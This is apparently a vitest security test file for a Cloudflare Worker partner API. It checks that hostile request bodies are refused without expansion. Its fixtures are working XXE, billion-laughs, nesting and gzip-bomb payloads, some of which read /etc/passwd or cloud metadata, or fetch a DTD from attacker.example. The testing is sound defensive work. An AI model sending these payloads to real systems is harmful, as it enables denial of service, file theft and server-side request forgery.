/**
 * Bodies built to hurt the parser, on every partner endpoint that reads a
 * body: XML entity attacks (billion laughs, external and parameter
 * entities, an entity declared without a DOCTYPE, an undeclared reference),
 * nesting far past the limits in JSON, XML, form and BSON, and a compressed
 * body that would inflate past the size limit. Each is refused quickly
 * (400, or 413, or 415) in the endpoint's envelope — never expanded, never
 * a 500 — and stores nothing.
 *
 * What already existed: test/api/routing-paths.test.ts (a DOCTYPE with one
 * entity, JSON nested past MAX_JSON_DEPTH, 413 for every endpoint,
 * streaming bodies stopped at the limit), test/api/formats.test.ts (the
 * DOCTYPE on Login), test/unit/wire-seeds.test.ts (the decoders' nesting
 * limits without the Worker).
 */
import { serialize } from "bson";
import { env } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import type { z } from "zod";
import { ResultCodes } from "../../src/domain/codes";
import { partnerEndpoints } from "../../src/endpoints/partner";
import { fieldsOf } from "../../src/schemas/introspect";
import { contractOf } from "../../src/wire/contract";
import { MAX_BODY_BYTES, MAX_JSON_DEPTH, MAX_XML_DEPTH } from "../../src/wire/limits";
import { aCustomer, fetchWorker, loginAs } from "../helpers/api";
import { CHECK, aGate } from "../helpers/gates";

/**
 * Every path that takes a POST body, with the root element its XML would
 * have, and whether its request type has no members at all (Account/Balance:
 * any object is a valid request, its unknown members ignored).
 */
const BODY_PATHS = partnerEndpoints.flatMap((e) =>
  e.methods.includes("POST") ? e.paths.map((p) => ({ path: `/${p}`, root: contractOf(e.request).name, memberless: fieldsOf(e.request as z.ZodObject).length === 0 })) : [],
);

let token: string;
let gateToken: string;
beforeAll(async () => {
  token = (await loginAs(await aCustomer())).token;
  gateToken = (await aGate()).token;
});

async function post(path: string, body: BodyInit, contentType: string, extra: Record<string, string> = {}) {
  const started = Date.now();
  // The gate's endpoint takes a gate device's token; every other one a session.
  const credential = path.toLowerCase() === CHECK.toLowerCase() ? gateToken : token;
  const response = await fetchWorker(path, { method: "POST", headers: { authorization: `Bearer ${credential}`, "content-type": contentType, accept: "application/json", ...extra }, body });
  const text = await response.text();
  return { status: response.status, text, ms: Date.now() - started };
}

const rowCount = async () => {
  const r = await env.DB.prepare("SELECT (SELECT count(*) FROM orders) + (SELECT count(*) FROM pos_bills) + (SELECT count(*) FROM payments) AS n").first<{ n: number }>();
  return r!.n;
};

/** Envelope code of an answer (POS pay folds it into "[code] …" under -1). */
function codeOf(text: string): number {
  const body = JSON.parse(text) as { resultcode?: number; errcode?: number; errmsg?: string };
  if (body.resultcode !== undefined) return body.resultcode;
  if (body.errcode === -1) return Number(/^\[(\d+)\]/.exec(body.errmsg ?? "")?.[1] ?? -1);
  return body.errcode!;
}

const laughs = (root: string) =>
  `<?xml version="1.0"?><!DOCTYPE ${root} [<!ENTITY a "LOL-EXPANDED"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;"><!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">]><${root}><mobile>&g;</mobile><dwid>&g;</dwid><orderid>&g;</orderid></${root}>`;

const XML_ATTACKS: [label: string, body: (root: string) => string][] = [
  ["billion laughs", laughs],
  ["an external entity (file://)", (root) => `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><${root}><dwid>&xxe;</dwid><mobile>&xxe;</mobile></${root}>`],
  ["an external entity (http://)", (root) => `<!DOCTYPE ${root} [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]><${root}><dwid>&xxe;</dwid></${root}>`],
  ["a parameter entity", (root) => `<!DOCTYPE ${root} [<!ENTITY % p SYSTEM "http://attacker.example/evil.dtd"> %p;]><${root}><dwid>x</dwid></${root}>`],
  ["an external DTD", (root) => `<!DOCTYPE ${root} SYSTEM "http://attacker.example/evil.dtd"><${root}><dwid>x</dwid></${root}>`],
  ["a DOCTYPE in lower case", (root) => `<!doctype ${root} [<!entity e "LOL-EXPANDED">]><${root}><dwid>&e;</dwid></${root}>`],
  ["an ENTITY declaration without a DOCTYPE", (root) => `<!ENTITY e "LOL-EXPANDED"><${root}><dwid>&e;</dwid></${root}>`],
  ["a reference to an undeclared entity", (root) => `<${root}><dwid>&xxe;</dwid><mobile>&nbsp;</mobile></${root}>`],
];

describe("XML entity attacks are refused without expansion", () => {
  it.each(BODY_PATHS.flatMap(({ path, root }) => XML_ATTACKS.map(([label, body]) => [`${path}: ${label}`, path, body(root)] as const)))("%s", async (_label, path, body) => {
    const before = await rowCount();
    const r = await post(path, body, "application/xml");
    expect(r.status).toBe(400);
    expect(codeOf(r.text)).toBe(ResultCodes.bodyUnreadable.code);
    expect(r.text).not.toMatch(/LOL-EXPANDED|root:|passwd|meta-data/);
    expect(r.ms).toBeLessThan(2_000);
    expect(await rowCount()).toBe(before);
  });

  it("character references and the five predefined entities are still read (what .NET's reader accepts)", async () => {
    const r = await post("/api/WebInterface/Session/Login", "<SessionLoginParm><dwid>&#x41;&lt;&amp;&gt;&quot;&apos;</dwid><dwlx>1</dwlx><password>00000000000000000000000000000000</password></SessionLoginParm>", "application/xml");
    expect(r.status).toBe(200);
    expect(codeOf(r.text)).toBe(ResultCodes.loginFailed.code);
  });
});

const deepJson = (depth: number) => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
const deepArray = (depth: number) => `${"[".repeat(depth)}${"]".repeat(depth)}`;
const deepXml = (root: string, depth: number) => `<${root}>${"<a>".repeat(depth)}x${"</a>".repeat(depth)}</${root}>`;
const deepForm = (depth: number) => `orderid${"[a]".repeat(depth)}=1&paypassword=x`;
function deepBson(depth: number): Uint8Array {
  let doc: Record<string, unknown> = { v: 1 };
  for (let i = 0; i < depth; i++) doc = { a: doc };
  return serialize(doc);
}

describe("nesting far past the limits is refused, never a 500", () => {
  const NESTINGS: [label: string, type: string, body: (root: string) => BodyInit, expected: number[]][] = [
    [`JSON objects ${MAX_JSON_DEPTH * 100} deep`, "application/json", () => deepJson(MAX_JSON_DEPTH * 100), [400]],
    ["JSON arrays 100,000 deep", "application/json", () => deepArray(100_000).slice(0, MAX_BODY_BYTES - 1), [400]],
    [`XML elements ${MAX_XML_DEPTH * 100} deep`, "application/xml", (root) => deepXml(root, MAX_XML_DEPTH * 100), [400]],
    // qs stops splitting at MAX_JSON_DEPTH: the rest stays one key, which matches no member.
    ["form keys 1,000 levels deep", "application/x-www-form-urlencoded", () => deepForm(1_000), [200, 400]],
    ["a BSON document 500 levels deep", "application/bson", () => deepBson(500), [200, 400]],
  ];
  it.each(BODY_PATHS.flatMap(({ path, root, memberless }) => NESTINGS.map(([label, type, body, expected]) => [`${path}: ${label}`, path, type, body(root), expected, memberless] as const)))(
    "%s",
    async (_label, path, type, body, expected, memberless) => {
      const before = await rowCount();
      const r = await post(path, body, type);
      expect(expected).toContain(r.status);
      expect(codeOf(r.text)).not.toBe(ResultCodes.internal.code);
      // Refused by a member's rule; a type without members reads the junk as the empty object it ignores.
      if (r.status === 200 && !(memberless && codeOf(r.text) === 0)) expect(codeOf(r.text)).toBeGreaterThanOrEqual(1100);
      expect(r.ms).toBeLessThan(3_000);
      expect(await rowCount()).toBe(before);
    },
  );
});

describe("a compressed body is not inflated past the limit", () => {
  it.each(BODY_PATHS.map(({ path }) => [path] as const))("%s: a gzip bomb (10 MB of JSON in a few KB)", async (path) => {
    const inflated = new TextEncoder().encode(`{"orderid":"${"0".repeat(10 * 1024 * 1024)}"}`);
    const gz = new Uint8Array(await new Response(new Blob([inflated]).stream().pipeThrough(new CompressionStream("gzip"))).arrayBuffer());
    expect(gz.byteLength).toBeLessThan(MAX_BODY_BYTES);
    const before = await rowCount();
    const r = await post(path, gz, "application/json", { "content-encoding": "gzip" });
    // Read as sent (compressed bytes are not JSON: 400) or inflated and stopped at the limit (413).
    expect([400, 413, 415]).toContain(r.status);
    expect(codeOf(r.text)).not.toBe(ResultCodes.internal.code);
    expect(r.ms).toBeLessThan(3_000);
    expect(await rowCount()).toBe(before);
  });
});
